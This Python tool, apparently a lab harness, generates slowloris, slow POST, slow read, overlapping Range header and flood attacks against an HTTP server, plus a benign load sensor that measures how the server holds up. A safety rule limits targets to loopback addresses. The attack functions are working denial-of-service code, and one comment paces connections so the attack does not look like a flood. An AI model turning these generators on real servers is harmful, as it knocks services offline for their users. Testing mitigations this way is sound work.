#!/usr/bin/env python3
"""MAGICWAND traffic tools: slow-attack generators and a benign load sensor (loopback only).

    mwtraffic.py attack slowloris|slowpost|slowread|range|flood --target HOST:PORT --sources CIDR \
        --connections N --duration S [options]
    mwtraffic.py load --target HOST:PORT --sources CIDR --rate R --duration S [--json-report FILE]

Safety rule: the target and every source address must be in 127.0.0.0/8. Anything else is refused
before a single packet is sent. Every loop is bounded by --duration and stops by itself; Ctrl-C (or
SIGTERM) stops early and still prints the report.

Python 3 standard library only (asyncio), so it runs anywhere the project runs.
"""

import argparse
import asyncio
import ipaddress
import json
import os
import resource
import signal
import socket
import sys
import time

LOOPBACK = ipaddress.ip_network("127.0.0.0/8")
KINDS = ("slowloris", "slowpost", "slowread", "range", "flood")
MAX_CONNECTIONS = 8000  # well under the 20,000 descriptor hard limit of these machines
MAX_DURATION = 3600
MAX_RATE = 5000
MAX_SOURCES = 65536


class UsageError(Exception):
    """A bad argument: printed as one line, exit status 2."""


# ---------------------------------------------------------------------------------------------
# arguments and the loopback safety rule


def parse_target(text):
    host, sep, port = text.rpartition(":")
    if not sep or not host:
        raise UsageError("--target must be HOST:PORT, got '%s'" % text)
    if host == "localhost":
        host = "127.0.0.1"
    if host.startswith("[") and host.endswith("]"):
        host = host[1:-1]
    try:
        addr = ipaddress.ip_address(host)
    except ValueError:
        raise UsageError("--target host must be a numeric address in 127.0.0.0/8 (only loopback targets are allowed), got '%s'" % host)
    if addr.version != 4 or addr not in LOOPBACK:
        raise UsageError("refusing target %s: only loopback targets in 127.0.0.0/8 are allowed (safety rule)" % host)
    try:
        p = int(port)
    except ValueError:
        raise UsageError("--target port must be a number, got '%s'" % port)
    if not 1 <= p <= 65535:
        raise UsageError("--target port must be 1..65535, got %d" % p)
    return str(addr), p


class Sources:
    """Distinct source addresses of a CIDR inside 127.0.0.0/8, handed out round-robin."""

    def __init__(self, cidr):
        try:
            net = ipaddress.ip_network(cidr, strict=False)
        except ValueError:
            raise UsageError("--sources must be a CIDR such as 127.0.1.0/28, got '%s'" % cidr)
        if net.version != 4 or not net.subnet_of(LOOPBACK):
            raise UsageError("refusing sources %s: only source ranges inside 127.0.0.0/8 are allowed (safety rule)" % cidr)
        self.net = net
        # Skip the network and broadcast addresses of ranges that have them.
        if net.prefixlen >= 31:
            self.first, self.count = int(net.network_address), net.num_addresses
        else:
            self.first, self.count = int(net.network_address) + 1, net.num_addresses - 2
        self.count = min(self.count, MAX_SOURCES)
        self.next = 0

    def __getitem__(self, i):
        return str(ipaddress.IPv4Address(self.first + (i % self.count)))

    def take(self):
        a = self[self.next]
        self.next += 1
        return a

    def __len__(self):
        return self.count


def positive(name, value, cast, low, high):
    try:
        v = cast(value)
    except (TypeError, ValueError):
        raise UsageError("%s must be a number, got '%s'" % (name, value))
    if not low <= v <= high:
        raise UsageError("%s must be %s..%s, got %s" % (name, low, high, value))
    return v


class Parser(argparse.ArgumentParser):
    def error(self, message):
        raise UsageError(message)


def build_parser():
    p = Parser(prog="mwtraffic", description="MAGICWAND loopback traffic tools (attacks and benign load)")
    sub = p.add_subparsers(dest="mode")
    a = sub.add_parser("attack", help="slow attacks", description="Run one slow attack against a loopback HTTP server.")
    a.add_argument("kind", help="|".join(KINDS))
    common(a)
    a.add_argument("--connections", required=True,
                   help="simultaneous connections (flood: new connections per second)")
    a.add_argument("--interval", default="2", help="seconds between trickled bytes / reads (default 2)")
    a.add_argument("--path", default="/", help="request path (slowread: a large resource)")
    a.add_argument("--rcvbuf", default="1024", help="slowread: SO_RCVBUF in bytes (default 1024)")
    a.add_argument("--read-bytes", default="16", help="slowread: bytes read per interval (default 16)")
    a.add_argument("--ranges", default="200", help="range: number of overlapping ranges (default 200)")
    l = sub.add_parser("load", help="benign load sensor", description="Send benign HTTP GETs at a fixed rate and "
                       "report per-second success rate and latency.")
    common(l)
    l.add_argument("--rate", required=True, help="requests per second")
    l.add_argument("--path", default="/", help="request path (default /)")
    l.add_argument("--timeout", default="2", help="seconds before a request counts as failed (default 2)")
    return p


def common(sp):
    sp.add_argument("--target", required=True, help="HOST:PORT, 127.0.0.0/8 only")
    sp.add_argument("--sources", required=True, help="CIDR of source addresses, inside 127.0.0.0/8")
    sp.add_argument("--duration", required=True, help="seconds; the run stops by itself")
    sp.add_argument("--json-report", help="write the final report as JSON to this file")
    sp.add_argument("--stats-file", help="append one JSON line of live figures per second to this file")
    sp.add_argument("--quiet", action="store_true", help="no per-second lines")


# ---------------------------------------------------------------------------------------------
# shared helpers


def raise_nofile(need):
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, need + 64))
    if want > soft:
        resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    if need + 64 > want:
        raise UsageError("%d connections need more open files than the limit %d allows" % (need, want))


async def connect(src, host, port, rcvbuf=None, timeout=5.0):
    """A non-blocking TCP socket from source address src; returns it connected."""
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.setblocking(False)
        if rcvbuf:
            # Before connect, so the advertised window is small from the first segment.
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        s.bind((src, 0))
        await asyncio.wait_for(asyncio.get_running_loop().sock_connect(s, (host, port)), timeout)
        return s
    except BaseException:
        s.close()
        raise


def http_head(method, path, host, extra=()):
    lines = ["%s %s HTTP/1.1" % (method, path), "Host: %s" % host, "User-Agent: mwtraffic/1"]
    lines.extend(extra)
    return "\r\n".join(lines) + "\r\n"


def percentile(sorted_vals, q):
    if not sorted_vals:
        return None
    k = min(len(sorted_vals) - 1, max(0, int(round(q / 100.0 * (len(sorted_vals) - 1)))))
    return sorted_vals[k]


class Stop:
    """The run's deadline plus early stop on a signal."""

    def __init__(self, duration):
        self.start_epoch = time.time()
        self.start = time.monotonic()
        self.deadline = self.start + duration
        self.event = asyncio.Event()

    def left(self):
        return self.deadline - time.monotonic()

    def done(self):
        return self.event.is_set() or self.left() <= 0

    async def sleep(self, s):
        """Sleeps s seconds or until the run ends; False when the run ended."""
        s = min(s, self.left())
        if s <= 0:
            return not self.done()
        try:
            await asyncio.wait_for(self.event.wait(), s)
        except asyncio.TimeoutError:
            pass
        return not self.done()


def emit(args, line_obj, text):
    if not args.quiet:
        print(text, flush=True)
    if args.stats_file:
        with open(args.stats_file, "a") as f:
            f.write(json.dumps(line_obj) + "\n")


# ---------------------------------------------------------------------------------------------
# attacks


class AttackStats:
    def __init__(self):
        self.open = 0
        self.opened = 0
        self.failed = 0           # connect failures (refused, timed out)
        self.closed_by_peer = 0   # the server (or a mitigation) ended the connection
        self.bytes_sent = 0
        self.bytes_read = 0
        self.requests = 0
        self.per_source = {}      # source -> connections opened
        self.open_per_source = {}

    def opened_from(self, src):
        self.open += 1
        self.opened += 1
        self.per_source[src] = self.per_source.get(src, 0) + 1
        self.open_per_source[src] = self.open_per_source.get(src, 0) + 1

    def closed_from(self, src):
        self.open -= 1
        self.open_per_source[src] -= 1


async def send(loop, s, data, st):
    await loop.sock_sendall(s, data)
    st.bytes_sent += len(data)


async def slow_connection(kind, args, src, st, stop):
    """One slowloris / slowpost / slowread connection, re-opened when the server closes it."""
    loop = asyncio.get_running_loop()
    host, port = args.target_addr
    while not stop.done():
        try:
            s = await connect(src, host, port, rcvbuf=args.rcvbuf if kind == "slowread" else None)
        except (OSError, asyncio.TimeoutError):
            st.failed += 1
            await stop.sleep(args.interval)
            continue
        st.opened_from(src)
        try:
            if kind == "slowloris":
                # A request line and a few headers, never the blank line that ends them.
                await send(loop, s, http_head("GET", args.path, host).encode(), st)
                n = 0
                while await stop.sleep(args.interval):
                    n += 1
                    await send(loop, s, ("X-a%d: %d\r\n" % (n, n)).encode(), st)
            elif kind == "slowpost":
                # Complete headers announcing a large body, then the body one byte at a time.
                head = http_head("POST", args.path, host, ("Content-Type: application/x-www-form-urlencoded",
                                                            "Content-Length: 100000000")) + "\r\n"
                await send(loop, s, head.encode(), st)
                while await stop.sleep(args.interval):
                    await send(loop, s, b"a", st)
            else:  # slowread
                await send(loop, s, (http_head("GET", args.path, host) + "\r\n").encode(), st)
                st.requests += 1
                while await stop.sleep(args.interval):
                    try:
                        data = await asyncio.wait_for(loop.sock_recv(s, args.read_bytes), max(0.1, stop.left()))
                    except asyncio.TimeoutError:
                        break  # the run ended while the server had not answered yet
                    if not data:
                        raise ConnectionResetError("EOF")
                    st.bytes_read += len(data)
        except (OSError, asyncio.TimeoutError):
            st.closed_by_peer += 1
            await stop.sleep(min(1.0, args.interval))
        finally:
            st.closed_from(src)
            s.close()


def range_header(n):
    # Overlapping ranges in the style of CVE-2011-3192: 0-, 5-0, 5-1, ... each overlaps the others.
    return "Range: bytes=0-," + ",".join("5-%d" % i for i in range(n))


async def range_connection(args, src, st, stop):
    loop = asyncio.get_running_loop()
    host, port = args.target_addr
    req = (http_head("GET", args.path, host, (range_header(args.ranges), "Accept-Encoding: gzip",
                                              "Connection: close")) + "\r\n").encode()
    while not stop.done():
        try:
            s = await connect(src, host, port)
        except (OSError, asyncio.TimeoutError):
            st.failed += 1
            await stop.sleep(0.5)
            continue
        st.opened_from(src)
        try:
            await send(loop, s, req, st)
            st.requests += 1
            while not stop.done():
                data = await asyncio.wait_for(loop.sock_recv(s, 65536), max(0.1, min(10.0, stop.left())))
                if not data:
                    break
                st.bytes_read += len(data)
        except (OSError, asyncio.TimeoutError):
            st.closed_by_peer += 1
        finally:
            st.closed_from(src)
            s.close()


async def flood(args, st, stop):
    """args.connections new connections per second, all from the first source address."""
    loop = asyncio.get_running_loop()
    host, port = args.target_addr
    src = args.sources_obj[0]
    req = (http_head("GET", args.path, host, ("Connection: close",)) + "\r\n").encode()
    tasks = set()

    async def one():
        try:
            s = await connect(src, host, port, timeout=2.0)
        except (OSError, asyncio.TimeoutError):
            st.failed += 1
            return
        st.opened_from(src)
        try:
            await send(loop, s, req, st)
            st.requests += 1
            data = await asyncio.wait_for(loop.sock_recv(s, 4096), 2.0)
            st.bytes_read += len(data)
        except (OSError, asyncio.TimeoutError):
            st.closed_by_peer += 1
        finally:
            st.closed_from(src)
            s.close()

    i = 0
    while not stop.done():
        due = stop.start + i / float(args.connections)
        if due > time.monotonic():
            if not await stop.sleep(due - time.monotonic()):
                break
        if len(tasks) < MAX_CONNECTIONS:
            t = asyncio.ensure_future(one())
            tasks.add(t)
            t.add_done_callback(tasks.discard)
        i += 1
    for t in list(tasks):
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


async def run_attack(args):
    st = AttackStats()
    stop = Stop(args.duration)
    install_signals(stop)
    reporter = asyncio.ensure_future(attack_reporter(args, st, stop))
    if args.kind == "flood":
        await flood(args, st, stop)
    else:
        tasks = []
        for i in range(args.connections):
            src = args.sources_obj.take()
            if args.kind == "range":
                tasks.append(asyncio.ensure_future(range_connection(args, src, st, stop)))
            else:
                tasks.append(asyncio.ensure_future(slow_connection(args.kind, args, src, st, stop)))
            # Spread the opening over ~1 s so the attack does not look like a flood.
            await asyncio.sleep(min(0.02, 1.0 / max(1, args.connections)))
        while not stop.done():
            await stop.sleep(1.0)
        for t in tasks:
            t.cancel()
        await asyncio.gather(*tasks, return_exceptions=True)
    stop.event.set()
    await reporter
    report = {
        "mode": "attack", "kind": args.kind, "target": "%s:%d" % args.target_addr, "sources": str(args.sources_obj.net),
        "start_epoch": round(stop.start_epoch, 3), "duration_s": round(time.monotonic() - stop.start, 3), "connections_opened": st.opened,
        "connect_failures": st.failed, "closed_by_peer": st.closed_by_peer, "requests": st.requests,
        "bytes_sent": st.bytes_sent, "bytes_read": st.bytes_read,
        "connections_per_source": dict(sorted(st.per_source.items())),
    }
    return report


async def tick(stop):
    """Waits one second; False once the run has been wound up (stop.event set)."""
    try:
        await asyncio.wait_for(stop.event.wait(), 1.0)
    except asyncio.TimeoutError:
        return True
    return False


async def attack_reporter(args, st, stop):
    t = 0
    while await tick(stop):
        t += 1
        line = {"t": t, "kind": args.kind, "open": st.open, "opened": st.opened, "connect_failures": st.failed,
                "closed_by_peer": st.closed_by_peer, "bytes_sent": st.bytes_sent, "bytes_read": st.bytes_read,
                "open_per_source": {k: v for k, v in sorted(st.open_per_source.items()) if v}}
        emit(args, line, "attack %s t=%ds open=%d opened=%d connect_failures=%d closed_by_peer=%d sent=%dB read=%dB"
             % (args.kind, t, st.open, st.opened, st.failed, st.closed_by_peer, st.bytes_sent, st.bytes_read))
    if args.stats_file:
        # A last line once every connection is closed, so a reader of the file sees the end.
        with open(args.stats_file, "a") as f:
            f.write(json.dumps({"t": t, "kind": args.kind, "open": st.open, "opened": st.opened,
                                "connect_failures": st.failed, "closed_by_peer": st.closed_by_peer,
                                "bytes_sent": st.bytes_sent, "bytes_read": st.bytes_read, "open_per_source": {},
                                "finished": True}) + "\n")


# ---------------------------------------------------------------------------------------------
# benign load sensor


class LoadStats:
    def __init__(self):
        self.results = []  # (start offset s, latency s or None, ok, error, source)
        self.sent = 0
        self.in_flight = 0
        self.sec_ok = 0
        self.sec_fail = 0
        self.sec_lat = []


def parse_status(head):
    line = head.split(b"\r\n", 1)[0]
    parts = line.split()
    if len(parts) >= 2 and parts[0].startswith(b"HTTP/"):
        try:
            return int(parts[1])
        except ValueError:
            return None
    return None


async def one_request(args, src, st, t0):
    loop = asyncio.get_running_loop()
    host, port = args.target_addr
    start = time.monotonic()
    ok, err, s = False, None, None
    try:
        async def exchange():
            nonlocal s
            s = await connect(src, host, port, timeout=args.timeout)
            await loop.sock_sendall(s, (http_head("GET", args.path, host, ("Connection: close",)) + "\r\n").encode())
            buf = b""
            while True:
                data = await loop.sock_recv(s, 65536)
                if not data:
                    break
                buf += data if len(buf) < 65536 else b""
            return buf
        buf = await asyncio.wait_for(exchange(), args.timeout)
        code = parse_status(buf)
        if code is None:
            err = "no HTTP response"
        elif 200 <= code < 400:
            ok = True
        else:
            err = "HTTP %d" % code
    except asyncio.TimeoutError:
        err = "timeout"
    except OSError as e:
        err = e.strerror or type(e).__name__
    finally:
        if s is not None:
            s.close()
        st.in_flight -= 1
    lat = time.monotonic() - start
    st.results.append((start - t0, lat if ok else None, ok, err, src))
    if ok:
        st.sec_ok += 1
        st.sec_lat.append(lat)
    else:
        st.sec_fail += 1


async def run_load(args):
    st = LoadStats()
    stop = Stop(args.duration)
    install_signals(stop)
    tasks = set()
    reporter = asyncio.ensure_future(load_reporter(args, st, stop))
    i = 0
    while not stop.done():
        due = stop.start + i / args.rate
        now = time.monotonic()
        if due > now and not await stop.sleep(due - now):
            break
        st.sent += 1
        st.in_flight += 1
        t = asyncio.ensure_future(one_request(args, args.sources_obj.take(), st, stop.start))
        tasks.add(t)
        t.add_done_callback(tasks.discard)
        i += 1
    # Requests already sent get their full timeout to finish (bounded).
    if tasks:
        await asyncio.wait(list(tasks), timeout=args.timeout + 1)
    for t in list(tasks):
        t.cancel()
    stop.event.set()
    await reporter
    return load_report(args, st, stop)


async def load_reporter(args, st, stop):
    t = 0
    while await tick(stop):
        t += 1
        done = st.sec_ok + st.sec_fail
        lat = sorted(st.sec_lat)
        rate = (100.0 * st.sec_ok / done) if done else None
        p50, p99 = percentile(lat, 50), percentile(lat, 99)
        line = {"t": t, "ok": st.sec_ok, "failed": st.sec_fail, "success_pct": rate,
                "p50_ms": ms(p50), "p99_ms": ms(p99), "in_flight": st.in_flight}
        emit(args, line, "load t=%ds ok=%d failed=%d success=%s p50=%s p99=%s in_flight=%d" % (
            t, st.sec_ok, st.sec_fail, "-" if rate is None else "%.1f%%" % rate,
            fmt_ms(p50), fmt_ms(p99), st.in_flight))
        st.sec_ok, st.sec_fail, st.sec_lat = 0, 0, []


def ms(v):
    return None if v is None else round(v * 1000.0, 2)


def fmt_ms(v):
    return "-" if v is None else "%.1fms" % (v * 1000.0)


def load_report(args, st, stop):
    res = st.results
    ok = [r for r in res if r[2]]
    lat = sorted(r[1] for r in ok)
    per_sec = {}
    for start, l, good, err, src in res:
        b = per_sec.setdefault(int(start), {"ok": 0, "failed": 0, "lat": []})
        if good:
            b["ok"] += 1
            b["lat"].append(l)
        else:
            b["failed"] += 1
    series = []
    for sec in sorted(per_sec):
        b = per_sec[sec]
        n = b["ok"] + b["failed"]
        l = sorted(b["lat"])
        series.append({"second": sec, "requests": n, "ok": b["ok"], "failed": b["failed"],
                       "success_pct": round(100.0 * b["ok"] / n, 2) if n else None,
                       "p50_ms": ms(percentile(l, 50)), "p99_ms": ms(percentile(l, 99))})
    errors = {}
    for r in res:
        if not r[2]:
            errors[r[3]] = errors.get(r[3], 0) + 1
    return {
        "mode": "load", "target": "%s:%d" % args.target_addr, "sources": str(args.sources_obj.net),
        "rate": args.rate, "start_epoch": round(stop.start_epoch, 3), "duration_s": round(time.monotonic() - stop.start, 3),
        "requests": len(res), "ok": len(ok), "failed": len(res) - len(ok),
        "success_pct": round(100.0 * len(ok) / len(res), 2) if res else None,
        "p50_ms": ms(percentile(lat, 50)), "p99_ms": ms(percentile(lat, 99)),
        "errors": errors, "sources_used": len({r[4] for r in res}), "per_second": series,
    }


# ---------------------------------------------------------------------------------------------


def install_signals(stop):
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGINT, signal.SIGTERM):
        try:
            loop.add_signal_handler(sig, stop.event.set)
        except (NotImplementedError, RuntimeError):
            pass


def validate(args):
    args.target_addr = parse_target(args.target)
    args.sources_obj = Sources(args.sources)
    args.duration = positive("--duration", args.duration, float, 0.1, MAX_DURATION)
    if args.mode == "attack":
        if args.kind not in KINDS:
            raise UsageError("unknown attack '%s' (one of: %s)" % (args.kind, ", ".join(KINDS)))
        args.connections = positive("--connections", args.connections, int, 1, MAX_CONNECTIONS)
        args.interval = positive("--interval", args.interval, float, 0.05, 60)
        args.rcvbuf = positive("--rcvbuf", args.rcvbuf, int, 1, 1 << 20)
        args.read_bytes = positive("--read-bytes", args.read_bytes, int, 1, 65536)
        args.ranges = positive("--ranges", args.ranges, int, 1, 1300)
        raise_nofile(args.connections if args.kind != "flood" else min(MAX_CONNECTIONS, args.connections * 3))
    else:
        args.rate = positive("--rate", args.rate, float, 0.1, MAX_RATE)
        args.timeout = positive("--timeout", args.timeout, float, 0.05, 60)
        raise_nofile(int(args.rate * args.timeout) + 16)
    if not args.path.startswith("/") or any(c in args.path for c in "\r\n "):
        raise UsageError("--path must start with / and contain no spaces or line breaks")


def main(argv):
    try:
        p = build_parser()
        if not argv or argv[0] in ("-h", "--help"):
            p.print_help()
            return 0
        args = p.parse_args(argv)
        if args.mode is None:
            raise UsageError("say 'attack KIND ...' or 'load ...'")
        validate(args)
    except UsageError as e:
        print("mwtraffic: error: %s" % e, file=sys.stderr)
        return 2
    report = asyncio.run(run_attack(args) if args.mode == "attack" else run_load(args))
    text = json.dumps(report, indent=2)
    if args.json_report:
        tmp = args.json_report + ".tmp"
        with open(tmp, "w") as f:
            f.write(text + "\n")
        os.replace(tmp, args.json_report)
    if not args.quiet:
        summary = dict(report)
        summary.pop("per_second", None)
        print(json.dumps(summary), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
